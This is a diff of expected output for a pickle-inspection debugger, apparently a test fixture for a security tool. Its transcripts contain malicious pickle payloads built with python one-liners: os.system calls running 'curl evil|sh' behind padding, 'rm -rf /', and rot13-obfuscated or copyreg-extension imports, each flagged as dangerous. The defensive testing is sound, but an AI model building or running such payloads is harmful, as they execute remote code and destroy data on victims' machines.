@@ -91,8 +91,8 @@ $ brine debug --batch -e 'goto end' -e 'why result' examples/memo-getattr.pkl
 $ brine debug --batch -e 'goto #12' -e explain -e 'explain memoize' examples/seed-boom.pkl
 0x002e #12 REDUCE   would CALL posix.system('echo "boom"')   !! DANGEROUS: process: runs a shell command
 ✖ Here Python would call posix.system('echo "boom"')
-Python values[-2:] = [values[-2](*values[-1])]  # posix.system('echo "boom"')
 dangerous (process): posix.system runs a shell command  denied-call
+Python values[-2:] = [values[-2](*values[-1])]  # posix.system('echo "boom"')
 stack  … posix.system │ ('echo "boom"',)  →  … posix.system('echo "boom"')
 REDUCE  Takes a callable and its arguments off the stack and CALLS it; pushes the result.
 MEMOIZE   0x94, protocol 4, argument: none
@@ -275,8 +275,8 @@ $ python3 -c "open('blanks.pkl','wb').write(b'cos\nsystem\nV' + b' ' * 3000 + b'
 0x0000 #0 GLOBAL   would IMPORT os.system   !! DANGEROUS: process: runs a shell command
 0x0bd2 #3 REDUCE   would CALL os.system('…3000 blanks…curl evil|sh')   !! DANGEROUS: process: runs a shell command
 ✖ Here Python would call os.system('…3000 blanks…curl evil|sh')
-Python values[-2:] = [values[-2](*values[-1])]  # os.system('…3000 blanks…curl evil|sh')
 dangerous (process): os.system runs a shell command  denied-call
+Python values[-2:] = [values[-2](*values[-1])]  # os.system('…3000 blanks…curl evil|sh')
 stack  … os.system │ ('…3000 blanks…curl evil|sh',)  →  … os.system('…3000 blanks…curl evil|sh')
 REDUCE  Takes a callable and its arguments off the stack and CALLS it; pushes the result.
 ✓✖ import os.system  ran at 0x0000
@@ -285,8 +285,8 @@ REDUCE  Takes a callable and its arguments off the stack and CALLS it; pushes th
 $ python3 -c "open('pad.pkl','wb').write(b'cos\nsystem\nV' + b'x' * 100000 + b'; rm -rf /\n\x85R.')" && brine debug --batch -e 'set print-limit 120' -e 'goto #3' -e explain -e 'info calls' -e 'print event.args' pad.pkl
 0x186b8 #3 REDUCE   would CALL os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99911…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')   !! DANGEROUS: process: runs a shell command
 ✖ Here Python would call os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99911…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')
-Python values[-2:] = [values[-2](*values[-1])]  # os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99911…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')
 dangerous (process): os.system runs a shell command  denied-call
+Python values[-2:] = [values[-2](*values[-1])]  # os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99911…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')
 stack  … os.system │ ('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99804…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /',)  →  … os.system('xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx…99798…xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx; rm -rf /')
 REDUCE  Takes a callable and its arguments off the stack and CALLS it; pushes the result.
 ✓✖ import os.system  ran at 0x00000
@@ -297,8 +297,8 @@ REDUCE  Takes a callable and its arguments off the stack and CALLS it; pushes th
 ; explain takes a position: with the values that are found there, wherever the cursor is.
 $ brine debug --batch -e 'explain #12' -e 'explain 0x13' -e 'explain end' -e 'explain reduce' -e 'explain #99' examples/seed-boom.pkl
 ✖ Here Python would call posix.system('echo "boom"')
-Python values[-2:] = [values[-2](*values[-1])]  # posix.system('echo "boom"')
 dangerous (process): posix.system runs a shell command  denied-call
+Python values[-2:] = [values[-2](*values[-1])]  # posix.system('echo "boom"')
 stack  … posix.system │ ('echo "boom"',)  →  … posix.system('echo "boom"')
 REDUCE  Takes a callable and its arguments off the stack and CALLS it; pushes the result.
 ┃ goes into posix.system('echo "boom"') at 0x2e
@@ -346,8 +346,8 @@ $ python3 -c "open('made.pkl','wb').write(b'\x80\x04\x8c\x06codecs\x8c\x06decode
 +0 ◆ 'system' = codecs.decode('flfgrz', 'rot13')  call       from 0x0035
 +1 ◆ 'os' = codecs.decode('bf', 'rot13')  call       from 0x0021
 ✖ Here Python would import os and take system from it
-Python import {codecs.decode('bf', 'rot13')}; values[-2:] = [{codecs.decode('bf', 'rot13')}.{codecs.decode('flfgrz', 'rot13')}]
 dangerous (process): os.system runs a shell command  denied-import
+Python import {codecs.decode('bf', 'rot13')}; values[-2:] = [{codecs.decode('bf', 'rot13')}.{codecs.decode('flfgrz', 'rot13')}]
 spelled import {codecs.decode('bf', 'rot13')}.{codecs.decode('flfgrz', 'rot13')}
 reached through 'os', made at 0x21
 then 'system', made at 0x35
@@ -376,8 +376,8 @@ $ brine debug --batch -e 'goto #17' -e 'info stack' -e why tests/data/malicious/
 $ brine debug --batch -e 'goto #8' -e explain -e 'info calls' tests/data/malicious/ext/ext_registry_set.p2.pkl; brine calls tests/data/malicious/ext/add_extension.p0.pkl; brine calls --json tests/data/malicious/ext/add_extension.p0.pkl | grep -o '"kind": "ext".*'
 0x0035 #8 EXT1   would IMPORT copyreg.extension(9) (that is os.system)   !! DANGEROUS: process: runs a shell command
 ✖ Here Python would import os and take system from it
-Python values.append(get_extension(9))  # copyreg.extension(9)
 dangerous (process): os.system runs a shell command  denied-import
+Python values.append(get_extension(9))  # copyreg.extension(9)
 spelled copyreg.extension(9)
 ┃ goes into os.system('echo brine-test') at 0x4c
 stack  …  →  … copyreg.extension(9)
